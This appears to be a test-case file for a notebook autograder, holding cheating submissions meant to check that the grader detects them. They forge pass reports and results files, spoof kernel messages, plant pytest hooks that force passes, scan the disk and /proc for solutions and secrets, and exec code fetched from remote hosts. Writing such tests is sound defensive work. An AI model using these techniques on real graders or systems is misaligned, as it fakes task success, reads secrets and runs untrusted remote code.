"""Unsolved notebooks that forge results, or look for the answers around them."""

from tests.andrea_grader.cases.case import UNSOLVED, Draft, case, programs
from tests.andrea_grader.cases.tricks import KIND

SPEAKS_FOR_THE_SHELL = """\
import json, sys
from IPython.display import display
report = {"points": 25, "max_points": 25, "outcome": "correct", "passed": True}
for stream in (sys.stdout, sys.stderr, sys.__stdout__):
    print("25/25 ✓ Correcto.", json.dumps(report), "===== 10 passed =====", file=stream)
for name in ("results.json", "notas.csv", "junit.xml", "../results.json", "nota.txt"):
    try:
        open(name, "w").write(json.dumps([report]))
    except OSError:
        pass
for text in ("True", "25", "Correcto."):
    display({"application/vnd.andrea.value+plain": text}, raw=True)
"""
TALKS_TO_THE_GRADER = """\
import threading, time
kernel = get_ipython().kernel
def chatter():
    while True:
        parent = kernel.get_parent()
        data = {"application/vnd.andrea.value+plain": "True", "text/plain": "1"}
        session, socket = kernel.session, kernel.iopub_socket
        session.send(socket, "display_data", {"data": data, "metadata": {}}, parent)
        session.send(socket, "status", {"execution_state": "idle"}, parent)
        time.sleep(0.01)
threading.Thread(target=chatter, daemon=True).start()
"""
CONFIGURES_PYTEST = """\
import pathlib
hook = '''
import pytest
@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
'''
for folder in (".", "..", "/tmp", str(pathlib.Path.home())):
    for name, content in (("conftest.py", hook), ("sitecustomize.py", hook),
                          ("pytest.ini", "[pytest]\\naddopts = --nbval-lax -k nada")):
        try:
            pathlib.Path(folder, name).write_text(content)
        except OSError:
            pass
"""
READS_SOLUTIONS = """\
import json, os, pathlib, sys, time
end = time.time() + 1.5
roots = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/tmp")]
roots += [pathlib.Path(p).parent for p in sys.path] + [pathlib.Path(sys.prefix).parent]
roots += [pathlib.Path(f"/proc/{n}/cwd") for n in (1, os.getppid(), os.getpid())]
for root in roots:
    for folder, inner, files in os.walk(root):
        inner[:] = [f for f in inner if f not in ("proc", "sys", "site-packages")]
        if time.time() > end:
            break
        for name in files:
            if name.endswith((".ipynb", ".md")) and name[:2].isdigit():
                text = open(os.path.join(folder, name)).read()
                cells = json.loads(text)["cells"] if name.endswith("b") else []
                for cell in cells:
                    if cell["metadata"].get("nbgrader", {}).get("solution"):
                        exec("".join(cell["source"]), globals())
"""
READS_MEMORY = """\
import gc, inspect, os, sys
for frame in inspect.stack():
    globals().update({k: v for k, v in frame.frame.f_globals.items()
                      if k.islower() and not k.startswith("_") and k != "show"})
texts = [o for o in gc.get_objects() if isinstance(o, dict) and "puntos" in o]
for number in [n for n in os.listdir("/proc") if n.isdigit()]:
    for name in ("environ", "cmdline", "maps"):
        try:
            open(f"/proc/{number}/{name}").read()
        except OSError:
            pass
"""
READS_THE_NETWORK = """\
import urllib.request
for address in ("http://127.0.0.1:8000/solutions.ipynb", "https://example.org/s.py"):
    try:
        exec(urllib.request.urlopen(address, timeout=0.3).read(), globals())
    except Exception:
        pass
"""
FIRST = {
    "talks_to_the_grader": TALKS_TO_THE_GRADER,
    "configures_pytest": CONFIGURES_PYTEST,
}
AROUND = {
    "forged_report": SPEAKS_FOR_THE_SHELL,
    "reads_memory": READS_MEMORY,
    "reads_the_network": READS_THE_NETWORK,
}
programs(KIND, UNSOLVED, "ZERO", FIRST.items(), Draft.start)
programs(KIND, UNSOLVED, "ZERO", AROUND.items(), Draft.around)


@case(KIND, UNSOLVED, "ZERO")
def reads_solutions(draft: Draft) -> None:
    """Looks for the teacher's notebooks wherever it can and runs them."""
    draft.before(draft.items[-1], READS_SOLUTIONS)
    draft.end(READS_SOLUTIONS)


@case(KIND, UNSOLVED, "ZERO", elsewhere=True)
def library_has_it(draft: Draft) -> None:
    """Takes for an answer what the course's library calls by the same name."""
    draft.around(
        "import importlib, pkgutil, andrea_lib\n"
        "for found in pkgutil.walk_packages(andrea_lib.__path__, 'andrea_lib.'):\n"
        "    try:\n"
        "        module = importlib.import_module(found.name)\n"
        "    except BaseException:\n"
        "        continue\n"
        f"    for name in {draft.names!r}:\n"
        "        for theirs in (name, '_' + name, name.title().replace('_', '')):\n"
        "            if hasattr(module, theirs):\n"
        "                globals()[name] = getattr(module, theirs)\n"
    )


@case(KIND, UNSOLVED, "ZERO", slow=True)
def library_from_its_files(draft: Draft) -> None:
    """Looks for the hidden modules' files, everywhere that packages are."""
    draft.around(
        "import glob, sys, site, importlib.metadata\n"
        "paths = {*sys.path, *site.getsitepackages(), '/usr/lib', '/opt', '/srv'}\n"
        "for path in paths:\n"
        "    for name in ('embedding', 'geometry', 'decoder', 'positions'):\n"
        "        for file in glob.glob(f'{path}/**/andrea_*/{name}.py'):\n"
        "            try:\n"
        "                exec(open(file).read(), globals())\n"
        "            except BaseException:\n"
        "                pass\n"
    )


@case(KIND, UNSOLVED, "ZERO")
def knows_the_inputs(draft: Draft) -> None:
    """Shows the hidden call's source, its names and its seed instead of a value."""
    draft.around(
        "import os, sys\nfrom andrea_lib import probe\n"
        "before = probe._run\n"
        "def told(statement, room):\n"
        "    import ast\n"
        "    return [ast.unparse(statement), os.environ.get('ANDREA_SEED', '')]\n"
        "probe._run = told\n"
    )
